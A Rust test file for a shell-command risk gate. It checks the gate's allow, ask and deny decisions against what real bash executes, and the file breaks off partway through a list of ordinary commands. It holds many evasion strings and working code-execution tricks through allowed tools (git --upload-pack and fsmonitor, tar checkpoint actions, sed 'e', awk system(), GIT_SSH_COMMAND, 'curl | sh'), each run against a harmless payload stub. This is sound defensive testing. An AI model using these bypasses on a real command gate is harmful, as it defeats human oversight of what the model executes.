//! End-to-end tests of `zot debug command`, the risk gate's CLI, including a
//! differential check against real bash: commands the gate allows are run by
//! bash with every external program replaced by a logger, and whatever bash
//! actually tried to execute must be what the gate said.
mod common;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use common::{require, zot_output};

fn verdict(mode: &str, allow: &str, cmd: &str) -> (i32, serde_json::Value) {
    let out = zot_output(&[
        "debug", "command", "--mode", mode, "--allow", allow, "--json", "--", cmd,
    ]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "bad JSON for {cmd:?}: {e}: {}",
            String::from_utf8_lossy(&out.stdout)
        )
    });
    (out.status.code().expect("exit code"), v)
}

#[test]
fn exit_codes_follow_the_decision() {
    let cases = [
        ("ask", "git", "git status", 0, "allow"),
        ("ask", "git", "rm -rf /", 3, "ask"),
        ("allowlist", "git", "git status", 0, "allow"),
        ("allowlist", "git", "rm -rf ./x", 1, "deny"),
        ("allowlist", "git,rm", "rm -rf /", 1, "deny"),
        ("none", "git", "git status", 1, "deny"),
        ("ask", "", "echo \"unbalanced", 3, "ask"),
    ];
    for (mode, allow, cmd, code, decision) in cases {
        let (got, v) = verdict(mode, allow, cmd);
        assert_eq!(got, code, "{mode} {cmd:?}: {v}");
        assert_eq!(v["decision"], decision, "{mode} {cmd:?}: {v}");
    }
}

#[test]
fn json_has_the_documented_shape() {
    let (code, v) = verdict("ask", "", "nice timeout 3 env rm -rf ~");
    assert_eq!(code, 3);
    let obj = v.as_object().unwrap();
    let keys: BTreeSet<&str> = obj.keys().map(String::as_str).collect();
    assert_eq!(keys, BTreeSet::from(["commands", "decision", "reasons"]));
    assert!(
        v["reasons"]
            .as_array()
            .unwrap()
            .iter()
            .any(|r| r.as_str().unwrap().contains("`rm -r` of `~`")),
        "{v}"
    );
    let cmds = v["commands"].as_array().unwrap();
    assert_eq!(cmds.len(), 1, "{v}");
    assert_eq!(cmds[0]["program"], "rm");
    assert_eq!(cmds[0]["argv"], serde_json::json!(["rm", "-rf", "~"]));
    assert_eq!(
        cmds[0]["via"],
        serde_json::json!(["nice", "timeout", "env"])
    );
}

#[test]
fn text_output_names_commands_wrappers_and_reasons() {
    let out = zot_output(&[
        "debug",
        "command",
        "--mode",
        "allowlist",
        "--allow",
        "git,sh",
        "--",
        "sh -c 'git log; curl x'",
    ]);
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("decision: deny"), "{text}");
    assert!(text.contains("via: sh"), "{text}");
    assert!(text.contains("`curl` is not in the allowlist"), "{text}");
}

#[test]
fn usage_errors_exit_2() {
    for args in [
        &["debug", "command"][..],
        &["debug", "command", "--mode", "sometimes", "--", "ls"][..],
        &["debug", "command", "--bogus", "--", "ls"][..],
    ] {
        let out = zot_output(args);
        assert_eq!(
            out.status.code(),
            Some(2),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

#[test]
fn long_input_is_bounded() {
    // 1 MB of commands on the command line is too much for argv limits on
    // some hosts; the gate's own 1 MiB test is in the policy crate. Here:
    // 100 KB, which every Linux accepts as one argument (limit 128 KiB).
    let cmd = "ls -la ; ".repeat(100_000 / 9);
    let t = Instant::now();
    let (code, v) = verdict("ask", "", &cmd);
    assert_eq!(code, 0, "{}", v["reasons"]);
    assert!(t.elapsed() < Duration::from_secs(20));
}

/// Where the real program `name` lives on this host.
fn real(name: &str) -> Option<PathBuf> {
    ["/usr/bin", "/bin", "/usr/sbin", "/sbin"]
        .iter()
        .map(|d| Path::new(d).join(name))
        .find(|p| p.exists())
}

/// A PATH directory in which every listed wrapper logs its name and then
/// runs the real wrapper (so it really resolves the wrapped program through
/// PATH), shells log and run real bash, every word of the tested commands
/// is a program that only logs its name, and anything else is not found,
/// which bash reports to `command_not_found_handle` (set via BASH_ENV),
/// which logs it. Nothing but wrappers and bash really runs.
struct Harness {
    dir: tempfile::TempDir,
    bash: PathBuf,
}

impl Harness {
    fn new(words: &BTreeSet<String>) -> Option<Harness> {
        let bash = real("bash")?;
        let dir = tempfile::tempdir().unwrap();
        let bin = dir.path().join("bin");
        std::fs::create_dir(&bin).unwrap();
        std::fs::create_dir(dir.path().join("work")).unwrap();
        let mut stubs = vec![];
        for w in [
            "env", "nice", "timeout", "nohup", "xargs", "find", "setsid", "stdbuf",
        ] {
            if let Some(p) = real(w) {
                stubs.push((w.to_string(), format!("exec {} \"$@\"", p.display())));
            }
        }
        for s in ["sh", "bash", "dash"] {
            stubs.push((s.to_string(), format!("exec {} \"$@\"", bash.display())));
        }
        // Every other word of the commands becomes a logger, so programs
        // run by the real wrappers (which bash's handler cannot see) are
        // logged too.
        for w in words {
            if !stubs.iter().any(|(n, _)| n == w) {
                stubs.push((w.clone(), "exit 0".to_string()));
            }
        }
        for (name, tail) in stubs {
            let path = bin.join(&name);
            let script = format!(
                "#!{}\nprintf '%s\\0' {name} \"$@\" $'\\1' >> \"$ZOT_STUB_LOG\"\n{tail}\n",
                bash.display()
            );
            std::fs::write(&path, script).unwrap();
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        std::fs::write(
            dir.path().join("bash_env"),
            "command_not_found_handle() { printf '%s\\0' \"${1##*/}\" \"${@:2}\" $'\\1' >> \"$ZOT_STUB_LOG\"; return 127; }\n",
        )
        .unwrap();
        Some(Harness { dir, bash })
    }

    /// Programs bash tried to execute for `cmd`, by basename. Each run logs
    /// to its own file and runs in its own process group, which is waited
    /// for (background jobs included) and then killed.
    fn executed(&self, cmd: &str) -> BTreeSet<String> {
        self.runs(cmd).into_iter().map(|r| r[0].clone()).collect()
    }

    /// Every execution bash made for `cmd`: program basename, then args.
    fn runs(&self, cmd: &str) -> Vec<Vec<String>> {
        use std::os::unix::process::CommandExt;
        static RUN: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
        let n = RUN.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let log = self.dir.path().join(format!("log.{n}"));
        let mut child = Command::new(&self.bash)
            .process_group(0)
            .env_clear()
            .env("ZOT_STUB_LOG", &log)
            .arg("-c")
            .arg(cmd)
            .env("PATH", self.dir.path().join("bin"))
            .env("BASH_ENV", self.dir.path().join("bash_env"))
            .env("HOME", self.dir.path().join("work"))
            .current_dir(self.dir.path().join("work"))
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let start = Instant::now();
        let pgid = child.id() as libc::pid_t;
        let mut reaped = false;
        loop {
            if !reaped && child.try_wait().unwrap().is_some() {
                reaped = true;
            }
            // Done when no process of the group is left.
            let alive = unsafe { libc::kill(-pgid, 0) } == 0;
            if reaped && !alive {
                break;
            }
            if start.elapsed() > Duration::from_secs(3) {
                unsafe { libc::kill(-pgid, libc::SIGKILL) };
                let _ = child.wait();
                break;
            }
            std::thread::sleep(Duration::from_millis(2));
        }
        let bytes = std::fs::read(&log).unwrap_or_default();
        let text = String::from_utf8_lossy(&bytes);
        text.split("\u{1}\0")
            .filter(|r| !r.is_empty())
            .map(|r| {
                r.strip_suffix('\0')
                    .unwrap_or(r)
                    .split('\0')
                    .map(str::to_string)
                    .collect()
            })
            .collect()
    }
}

/// What the gate reported: (program basename, argv, via basenames).
type Reported = Vec<(String, Vec<String>, Vec<String>)>;

fn base(s: &str) -> String {
    s.rsplit('/').next().unwrap_or(s).to_string()
}

/// Executions whose argv differs from every command the gate reported for
/// that program, where the gate's argv is fully known (no expansion, glob or
/// brace characters, not fed by xargs or find).
fn argv_mismatches(cmd: &str, runs: &[Vec<String>], reported: &Reported) -> Vec<String> {
    let plain = |argv: &[String], via: &[String]| {
        !via.iter().any(|v| v == "xargs" || v == "find")
            && argv
                .iter()
                .all(|a| !a.contains(['$', '*', '?', '[', '{', '~', '`', '\\', '(', '<', '>']))
    };
    let mut out = Vec::new();
    for run in runs {
        // Wrappers log their own argv too; the gate reports the command
        // they run (and only the innermost program as a command).
        if matches!(
            run[0].as_str(),
            "env"
                | "nice"
                | "timeout"
                | "nohup"
                | "xargs"
                | "find"
                | "setsid"
                | "stdbuf"
                | "sh"
                | "bash"
                | "dash"
        ) {
            continue;
        }
        let cands: Vec<_> = reported.iter().filter(|(p, _, _)| *p == run[0]).collect();
        if cands.is_empty() || !cands.iter().all(|(_, argv, via)| plain(argv, via)) {
            continue;
        }
        if !cands
            .iter()
            .any(|(_, argv, _)| argv.len() == run.len() && argv[1..] == run[1..])
        {
            let saw: Vec<_> = cands.iter().map(|(_, a, _)| a).collect();
            out.push(format!("{cmd:?}: bash ran {run:?}, the gate saw {saw:?}"));
        }
    }
    out
}

fn corpus_commands() -> Vec<String> {
    let text = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../policy/tests/gate_corpus.toml"
    ))
    .unwrap();
    let mut cmds = Vec::new();
    // A tiny extraction of `cmd = ...` values is enough: re-use the TOML
    // parser through serde_json-free means is not available in this crate.
    let mut lines = text.lines();
    while let Some(line) = lines.next() {
        let Some(rest) = line.strip_prefix("cmd = ") else {
            continue;
        };
        let value = if let Some(r) = rest.strip_prefix("'''") {
            let mut v = r.to_string();
            while !v.ends_with("'''") {
                v.push('\n');
                v.push_str(lines.next().unwrap());
            }
            v.trim_end_matches("'''").to_string()
        } else if let Some(r) = rest.strip_prefix('\'') {
            r.trim_end_matches('\'').to_string()
        } else {
            continue; // basic strings with escapes: skipped here
        };
        cmds.push(value);
    }
    cmds
}

/// Extra evasions for the differential test.
const EXTRA: &[&str] = &[
    "'r''m' -rf x",
    "r\\m x",
    "\"g\"i\\t status",
    "env -S 'curl -s x'",
    "env -i X=1 curl x",
    "nice -n 5 timeout 3 env curl x",
    "ls | xargs -n1 curl",
    "find . -maxdepth 0 -exec curl {} \\;",
    "sh -c 'curl x; wget y'",
    "bash -c \"sh -c 'nc -l 1'\"",
    "echo $(curl x) `wget y`",
    "cat <(curl x)",
    "git status; curl x & wget y",
    "a=1 b=2 curl x",
    "if ls; then curl x; else wget y; fi",
    "for i in 1; do curl $i; done",
    "{ curl x; }",
    "(wget y)",
    "! curl x",
    "case a in a) curl x;; esac",
    "f() { curl x; }; f",
    "command curl x",
    "builtin command curl x",
    "exec curl x",
    "time curl x",
    "x=$(wget y) curl z",
    "ls # ; curl x",
    "ls; #curl x",
    "echo a#b; curl x",
    "cat <<EOF\n$(curl x)\nEOF",
    "timeout -k 1 5 nohup setsid curl x",
    "stdbuf -o0 curl x",
    "coproc curl x",
    "env -- curl x",
    "xargs -I{} -n1 curl {}",
    "find . -maxdepth 0 -execdir sh -c 'curl x' \\;",
];

#[test]
fn allowed_commands_run_only_what_the_gate_reported() {
    let mut cmds = corpus_commands();
    cmds.extend(EXTRA.iter().map(|s| s.to_string()));
    let words: BTreeSet<String> = cmds
        .iter()
        .flat_map(|c| c.split(|ch: char| !(ch.is_ascii_alphanumeric() || "._-".contains(ch))))
        .filter(|w| !w.is_empty() && !w.starts_with(['-', '.']) && w.len() < 40)
        .map(str::to_string)
        .collect();
    let Some(h) = Harness::new(&words) else {
        require("bash", false, "bash not found in /usr/bin or /bin");
        return;
    };
    // Sanity: the harness really sees executions.
    assert_eq!(
        h.executed("curl x; sh -c 'wget y'"),
        BTreeSet::from(["curl".into(), "sh".into(), "wget".into()])
    );

    let allow = "git,ls,grep,rg,cat,wc,head,tail,echo,sed,awk,find,xargs,tar,sort,env,nice,timeout";
    let allow_set: BTreeSet<&str> = allow.split(',').collect();
    let mut checked = 0;
    let mut failures = Vec::new();
    for cmd in &cmds {
        // Never hand bash a program by absolute or relative path: only PATH
        // lookups are redirected to loggers.
        if cmd.contains('/')
            && (cmd.contains("/bin")
                || cmd.contains("/usr")
                || cmd.contains("./")
                || cmd.starts_with('/'))
        {
            continue;
        }
        // Nor let a real wrapper fall back to the default PATH (`env -i`
        // unsets PATH; `command -p` uses the system one).
        if (cmd.contains("env")
            && (cmd.contains("-i")
                || cmd.contains("-u")
                || cmd.contains(" - ")
                || cmd.contains("--ignore")))
            || cmd.contains("-p")
        {
            continue;
        }
        let (_, ask) = verdict("ask", allow, cmd);
        let (_, al) = verdict("allowlist", allow, cmd);
        if ask["decision"] != "allow" && al["decision"] != "allow" {
            continue;
        }
        let strs = |v: &serde_json::Value| -> Vec<String> {
            v.as_array()
                .unwrap()
                .iter()
                .map(|x| x.as_str().unwrap().to_string())
                .collect()
        };
        let full: Reported = ask["commands"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| {
                let via: Vec<String> = strs(&c["via"]).iter().map(|v| base(v)).collect();
                (base(c["program"].as_str().unwrap()), strs(&c["argv"]), via)
            })
            .collect();
        let reported: BTreeSet<String> = full
            .iter()
            .flat_map(|(p, _, via)| via.iter().cloned().chain([p.clone()]))
            .collect();
        let runs = h.runs(cmd);
        if ask["decision"] == "allow" {
            failures.extend(argv_mismatches(cmd, &runs, &full));
        }
        let ran: BTreeSet<String> = runs.iter().map(|r| r[0].clone()).collect();
        checked += 1;
        let unreported: Vec<&String> = ran.iter().filter(|p| !reported.contains(*p)).collect();
        if !unreported.is_empty() {
            failures.push(format!(
                "{cmd:?}: bash ran {unreported:?}, the gate reported {reported:?}"
            ));
        }
        if al["decision"] == "allow" {
            let unlisted: Vec<&String> = ran
                .iter()
                .filter(|p| !allow_set.contains(p.as_str()))
                .collect();
            if !unlisted.is_empty() {
                failures.push(format!(
                    "{cmd:?}: allowlist mode allowed it but bash ran {unlisted:?}"
                ));
            }
        }
    }
    assert!(
        checked >= 100,
        "only {checked} commands were checked against bash"
    );
    assert!(
        failures.is_empty(),
        "{} of {checked} differential checks failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// Random shell-ish commands: whatever the gate allows in ask mode, bash
/// must not run anything the gate did not report; whatever it allows in
/// allowlist mode, bash must run only listed programs. Seed: ZOT_GATE_SEED.
#[test]
fn random_commands_agree_with_bash() {
    const TOKENS: &[&str] = &[
        "ls",
        "git",
        "curl",
        "wget",
        "cat",
        "sh -c",
        "bash -c",
        "env",
        "nice",
        "timeout 3",
        "xargs",
        "find .",
        "-exec",
        "{}",
        "\\;",
        "X=1",
        "|",
        "||",
        "&&",
        "&",
        ";",
        "'",
        "\"",
        "\\",
        "$",
        "$(",
        ")",
        "(",
        "`",
        "{",
        "}",
        "#",
        "${IFS}",
        "*",
        "~",
        "-rf",
        "=",
        "if",
        "then",
        "fi",
        "for x in a;",
        "do",
        "done",
        "!",
        "echo",
        "'curl x'",
        "\"wget y\"",
        "\\c\\url",
        "c'u'rl",
        "$'\\x63url'",
        "\n",
        "<(",
        "<<<",
        "a=$(",
        "x[",
        "]",
        "-exec curl {} +",
        "xargs -I{} curl",
        "env X=1",
        "nice -n 1",
        "command",
        "exec",
        "time",
        "builtin",
        "f()",
        "{ curl;}",
        "\\\n",
        "\t",
        ">x",
        "2>&1",
        "<<E\nwget\nE\n",
        "$((1))",
        "[[ -n x ]]",
        "case x in x) curl;; esac",
        "while false; do curl; done",
        "coproc",
        "--",
        "-",
        "\"$x\"",
        "${x:-curl}",
        "$x",
        "\\'",
        "\"\\\"\"",
        "x='a[$(curl x)]';",
        "$((x))",
        "printf -v",
        "'a[`wget`]'",
        "env -S'curl x'",
        "timeout -s KILL 1",
        "nohup --",
        "command --",
        "exec --",
        "time -p",
        "stdbuf -o0",
        "setsid -w",
        "find . -maxdepth 0 -exec sh -c 'curl' \\;",
        "$'a b'",
        "\"a b\"",
        "$\"x\"",
        "2>",
        "3<&0",
        "&>",
        "|&",
        ";;",
        "((",
        "))",
        "[",
        "--x=1",
        "\\\"",
    ];
    let seed: u64 = std::env::var("ZOT_GATE_SEED")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(0x5eed_2026);
    let mut state = seed;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let mut cmds = Vec::new();
    let count: usize = std::env::var("ZOT_GATE_RANDOM_N")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(1500);
    for _ in 0..count {
        let n = 1 + next() % 9;
        let mut s = String::new();
        for _ in 0..n {
            s.push_str(TOKENS[(next() % TOKENS.len() as u64) as usize]);
            if next() % 3 != 0 {
                s.push(' ');
            }
        }
        cmds.push(s);
    }
    let words: BTreeSet<String> = [
        "ls", "git", "curl", "wget", "cat", "echo", "a", "x", "y", "url", "X", "then",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    let Some(h) = Harness::new(&words) else {
        require("bash", false, "bash not found in /usr/bin or /bin");
        return;
    };
    let allow: Vec<String> = ["ls", "git", "cat", "echo", "env", "nice", "xargs"]
        .iter()
        .map(|s| s.to_string())
        .collect();
    let mut failures = Vec::new();
    let mut ran_any = 0;
    for cmd in &cmds {
        if cmd.contains("-i") || cmd.contains("-p") {
            continue;
        }
        let ask = zot_policy::gate::evaluate(cmd, zot_policy::gate::GateMode::Ask, &allow);
        let al = zot_policy::gate::evaluate(cmd, zot_policy::gate::GateMode::Allowlist, &allow);
        if ask.decision != zot_policy::gate::Decision::Allow
            && al.decision != zot_policy::gate::Decision::Allow
        {
            continue;
        }
        let full: Reported = ask
            .commands
            .iter()
            .map(|c| {
                (
                    base(&c.program),
                    c.argv.clone(),
                    c.via.iter().map(|v| base(v)).collect(),
                )
            })
            .collect();
        let reported: BTreeSet<String> = full
            .iter()
            .flat_map(|(p, _, via)| via.iter().cloned().chain([p.clone()]))
            .collect();
        let runs = h.runs(cmd);
        if ask.decision == zot_policy::gate::Decision::Allow {
            failures.extend(argv_mismatches(cmd, &runs, &full));
        }
        let ran: BTreeSet<String> = runs.iter().map(|r| r[0].clone()).collect();
        ran_any += 1;
        if ask.decision == zot_policy::gate::Decision::Allow {
            let missed: Vec<&String> = ran.iter().filter(|p| !reported.contains(*p)).collect();
            if !missed.is_empty() {
                failures.push(format!(
                    "ask allowed {cmd:?}: bash ran {missed:?}, gate reported {reported:?}"
                ));
            }
        }
        if al.decision == zot_policy::gate::Decision::Allow {
            let unlisted: Vec<&String> = ran.iter().filter(|p| !allow.contains(p)).collect();
            if !unlisted.is_empty() {
                failures.push(format!("allowlist allowed {cmd:?}: bash ran {unlisted:?}"));
            }
        }
    }
    eprintln!("seed {seed}: {ran_any} allowed random commands run under bash");
    assert!(
        ran_any >= 50,
        "too few allowed commands ({ran_any}) to compare"
    );
    assert!(
        failures.is_empty(),
        "seed {seed}: {} disagreements with bash:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// A work directory where attacks run against the real programs: `payload`
/// on PATH only records that it ran; a git repository, a tar archive and a
/// text file are there to work on.
struct RealWorld {
    dir: tempfile::TempDir,
}

impl RealWorld {
    fn new() -> RealWorld {
        let dir = tempfile::tempdir().unwrap();
        let bin = dir.path().join("bin");
        let work = dir.path().join("work");
        std::fs::create_dir_all(&bin).unwrap();
        std::fs::create_dir_all(&work).unwrap();
        let payload = bin.join("payload");
        std::fs::write(
            &payload,
            "#!/bin/sh\necho ran >> \"$ZOT_PAYLOAD_LOG\"\ncat >/dev/null 2>&1 </dev/null\nexit 0\n",
        )
        .unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&payload, std::fs::Permissions::from_mode(0o755)).unwrap();
        std::fs::write(work.join("f"), "hello\nworld\n").unwrap();
        std::fs::write(work.join("rc"), "payload\n").unwrap();
        let w = RealWorld { dir };
        w.sh(
            "git init -q repo && cd repo && echo hello > a && git add a && \
              git -c user.name=t -c user.email=t@t commit -qm one && cd .. && \
              tar -cf a.tar f",
        );
        w
    }

    fn sh(&self, cmd: &str) -> Output {
        Command::new("bash")
            .arg("-c")
            .arg(cmd)
            .env_clear()
            .env(
                "PATH",
                format!(
                    "{}:/usr/local/bin:/usr/bin:/bin",
                    self.dir.path().join("bin").display()
                ),
            )
            .env("HOME", self.dir.path().join("work"))
            .env("ZOT_PAYLOAD_LOG", self.dir.path().join("payload.log"))
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .current_dir(self.dir.path().join("work"))
            .stdin(Stdio::null())
            .output()
            .unwrap()
    }

    /// Runs `cmd` with the real programs; did `payload` run?
    fn payload_runs(&self, cmd: &str) -> bool {
        let log = self.dir.path().join("payload.log");
        let _ = std::fs::remove_file(&log);
        let out = self.sh(&format!("timeout 10 bash -c {}", shell_quote(cmd)));
        let ran = log.exists();
        if !ran {
            eprintln!(
                "{cmd:?}: payload did not run: {}",
                String::from_utf8_lossy(&out.stderr)
            );
        }
        ran
    }
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

fn installed(p: &str) -> bool {
    real(p).is_some() || Path::new("/usr/local/bin").join(p).exists()
}

/// Every class of the adversarial review, attacked with the real program:
/// each command really runs `payload` (checked first, so the test proves
/// the attack), and the gate denies it in allowlist mode even with every
/// program it names listed, and asks in ask mode.
#[test]
fn real_attacks_are_denied_and_really_run_code() {
    if !installed("git") || !installed("bash") {
        require("git and bash", false, "git or bash is not installed");
        return;
    }
    let world = RealWorld::new();
    // (program that must be installed, command, what the gate must do):
    // "exec": deny in allowlist mode and ask in ask mode; "deny": deny in
    // allowlist mode; "report": name `payload` among the commands it runs.
    let attacks: &[(&str, &str, &str)] = &[
        // 1. Abbreviated long options (git parse-options, getopt_long, argp).
        ("git", "git -C repo fetch -q --upload-pa=payload .", "exec"),
        ("git", "git -C repo ls-remote --upload-p=payload .", "exec"),
        (
            "git",
            "git -C repo grep --open-files-in-pag=payload hello",
            "exec",
        ),
        (
            "tar",
            "tar -cf /dev/null f --checkpoint=1 --checkpoint-act=exec=payload",
            "exec",
        ),
        ("tar", "tar -xf a.tar --to-comm=payload", "exec"),
        ("sed", "sed -n --expr='1e payload' f", "exec"),
        ("split", "split --filt=payload f", "exec"),
        // 2. Options after operands (GNU getopt permutes, argp in order).
        ("sed", "sed f -e '1e payload'", "exec"),
        (
            "tar",
            "tar -cf /dev/null f --checkpoint=1 --checkpoint-action=exec=payload",
            "exec",
        ),
        // 3. Options and programs outside any list of known-bad ones.
        ("git", "git -C repo -c alias.x=!payload x", "exec"),
        (
            "git",
            "git -C repo -c core.fsmonitor=payload status",
            "exec",
        ),
        ("zip", "zip -q z.zip f -T -TT payload", "exec"),
        ("split", "split -n 1 --filter=payload f", "exec"),
        ("sqlite3", "sqlite3 :memory: '.shell payload'", "exec"),
        (
            "vim",
            "vim -es -u NONE -i NONE -c '!payload' -c 'qa!'",
            "exec",
        ),
        ("awk", "awk 'BEGIN { system(\"payload\") }'", "exec"),
        ("awk", "awk 'BEGIN { print \"x\" | \"payload\" }'", "exec"),
        ("find", "find f -maxdepth 0 -execdir payload ';'", "report"),
        ("xargs", "echo f | xargs -n1 payload", "report"),
        // 4. Wrappers' own options.
        ("flock", "flock -nw 5 lockf payload", "report"),
        ("bash", "bash --rcfile rc -ic true", "exec"),
        ("setarch", "setarch x86_64 payload", "exec"),
        ("timeout", "timeout --sig=KILL 5 payload", "report"),
        ("env", "env --unse=X payload", "report"),
        // 5. Code the walker never sees.
        ("bash", "v=x; echo ${v#$(payload)}", "exec"),
        ("bash", "v=x; echo ${v%%`payload`}", "exec"),
        ("bash", "v=x; echo ${v,,$(payload)}", "exec"),
        ("bash", "x='$(payload)'; echo ${x@P}", "exec"),
        (
            "bash",
            "a='$'; b='(payload)'; c=\"x[$a$b]\"; echo $((c))",
            "exec",
        ),
        ("bash", "PS4='$(payload)'; set -x; true", "exec"),
        (
            "bash",
            "mkdir -p bin2; cp ../bin/payload bin2/ls; printf -v PATH %s bin2; ls",
            "deny",
        ),
    ];
    let mut failures = Vec::new();
    let mut checked = 0;
    for (prog, cmd, want) in attacks {
        if !require(
            &format!("`{prog}` (ci/setup.sh installs it)"),
            installed(prog),
            &format!("{cmd:?} not run"),
        ) {
            continue;
        }
        // The allowlist names every word that could be a program.
        let names: BTreeSet<&str> = cmd
            .split(|c: char| !(c.is_ascii_alphanumeric() || "_-.".contains(c)))
            .filter(|w| !w.is_empty() && !w.starts_with('-'))
            .collect();
        let allow = names.into_iter().collect::<Vec<_>>().join(",");
        let (code, v) = verdict("allowlist", &allow, cmd);
        if *want != "report" && code != 1 {
            failures.push(format!("allowlist allowed {cmd:?}: {v}"));
        }
        let (code, v) = verdict("ask", "", cmd);
        if *want == "exec" && code != 3 {
            failures.push(format!("ask mode did not ask for {cmd:?}: {v}"));
        }
        // Where the gate follows the wrapper, it must name the payload.
        let programs: Vec<&str> = v["commands"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c["program"].as_str().unwrap())
            .collect();
        if *want == "report" && !programs.contains(&"payload") {
            failures.push(format!(
                "the gate did not report `payload` for {cmd:?}: {v}"
            ));
        }
        if !world.payload_runs(cmd) {
            failures.push(format!(
                "the attack {cmd:?} did not run its payload (test is wrong)"
            ));
        }
        checked += 1;
    }
    assert!(checked >= 20, "only {checked} attacks could be checked");
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Issue 24's classes, attacked with the real programs: variables that
/// make an allowed program run another, options that take a program,
/// launchers (whose command must itself be allowed), code fed to a program
/// that runs its input. Each attack first really runs `payload`; then, as
/// above, "exec" must be denied in allowlist mode (every word listed) and
/// asked about in ask mode, "deny" denied in allowlist mode, "report" (a
/// launcher) must name `payload` among the commands, and be denied in
/// allowlist mode when `payload` is not listed.
#[test]
fn generalised_attacks_are_caught_and_really_run_code() {
    if !installed("git") || !installed("bash") {
        require("git and bash", false, "git or bash is not installed");
        return;
    }
    let world = RealWorld::new();
    world.sh(
        "printf 'int main(void){return 0;}\n' > hello.c && \
         printf 'all:\n\ttrue\n' > Makefile && echo change >> repo/a && mkdir -p envd",
    );
    let attacks: &[(&str, &str, &str)] = &[
        // Variables (allowlist: only inert ones; ask: the ones that name a program).
        ("git", "GIT_EXTERNAL_DIFF=payload git -C repo diff", "exec"),
        (
            "git",
            "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=diff.external GIT_CONFIG_VALUE_0=payload git -C repo diff",
            "exec",
        ),
        ("git", "GIT_SSH_COMMAND=payload git -C repo fetch -q ssh://h/x", "exec"),
        ("git", "env GIT_SSH=payload git -C repo ls-remote ssh://h/x", "exec"),
        ("rsync", "RSYNC_RSH=payload rsync -a h:x y", "exec"),
        ("rsync", "RSYNC_CONNECT_PROG=payload rsync rsync://h/m/ y", "exec"),
        ("make", "MAKEFLAGS=--eval=x:;payload make x", "deny"),
        ("make", "CC=payload make hello", "deny"),
        // Options that take a program.
        ("make", "make SHELL=payload all", "exec"),
        ("make", "make CC=../bin/payload hello", "exec"),
        ("make", "make --eval='x: ; payload' x", "exec"),
        ("make", "printf 'x:\\n\\tpayload\\n' | make -f - x", "exec"),
        ("gcc", "gcc -wrapper payload -c hello.c -o /dev/null", "exec"),
        ("rsync", "rsync --rsh=payload -a h:x y", "exec"),
        ("socat", "socat -u OPEN:/dev/null SYSTEM:payload", "exec"),
        ("sqlite3", "sqlite3 :memory: \"select edit('x', 'payload')\"", "exec"),
        // Launchers: the command they run is reported (and must be listed).
        ("tmux", "tmux -L zotgate new-session -d payload; sleep 1", "report"),
        ("screen", "screen -dmS zotgate payload; sleep 1", "report"),
        ("dtach", "dtach -n dsock payload; sleep 1", "report"),
        ("eatmydata", "eatmydata payload", "report"),
        ("softlimit", "softlimit -m 100000000 payload", "report"),
        ("envdir", "envdir envd payload", "report"),
        ("hyperfine", "hyperfine -r 2 -N payload", "report"),
        ("hyperfine", "hyperfine -r 2 --prepare payload true", "report"),
        // Code fed to a program that runs its input.
        ("curl", "curl -s file://$PWD/rc | sh", "exec"),
        ("curl", "curl -so s.sh file://$PWD/rc && sh s.sh", "exec"),
    ];
    let mut failures = Vec::new();
    let mut checked = 0;
    for (prog, cmd, want) in attacks {
        if !require(
            &format!("`{prog}` (ci/setup.sh installs it)"),
            installed(prog),
            &format!("{cmd:?} not run"),
        ) {
            continue;
        }
        let names: BTreeSet<&str> = cmd
            .split(|c: char| !(c.is_ascii_alphanumeric() || "_-.".contains(c)))
            .filter(|w| !w.is_empty() && !w.starts_with('-'))
            .collect();
        let allow = names.iter().copied().collect::<Vec<_>>().join(",");
        let (code, v) = verdict("allowlist", &allow, cmd);
        if *want != "report" && code != 1 {
            failures.push(format!("allowlist allowed {cmd:?}: {v}"));
        }
        if *want == "report" {
            let without: Vec<&str> = names.iter().copied().filter(|n| *n != "payload").collect();
            let (code, v) = verdict("allowlist", &without.join(","), cmd);
            if code != 1 {
                failures.push(format!("allowlist allowed {cmd:?} without `payload` listed: {v}"));
            }
        }
        let (code, v) = verdict("ask", "", cmd);
        if *want == "exec" && code != 3 {
            failures.push(format!("ask mode did not ask for {cmd:?}: {v}"));
        }
        let programs: Vec<&str> = v["commands"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c["program"].as_str().unwrap())
            .collect();
        if *want == "report" && !programs.contains(&"payload") {
            failures.push(format!("the gate did not report `payload` for {cmd:?}: {v}"));
        }
        if !world.payload_runs(cmd) {
            failures.push(format!("the attack {cmd:?} did not run its payload (test is wrong)"));
        }
        checked += 1;
    }
    assert!(checked >= 10, "only {checked} attacks could be checked");
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Ordinary developer commands stay allowed in allowlist mode (with their
/// program listed) and in ask mode, and really work.
#[test]
fn ordinary_commands_stay_allowed() {
    let controls = [
        "git status",
        "git log --oneline -5",
        "git diff --stat",
        "git commit -m x",
        "git add -A",
        "git show HEAD --stat",
        "git branch -a",
        "git checkout -b topic",
        "git stash list",
        "git rev-parse --show-toplevel",
        "git fetch origin",
        "git push -u origin main",
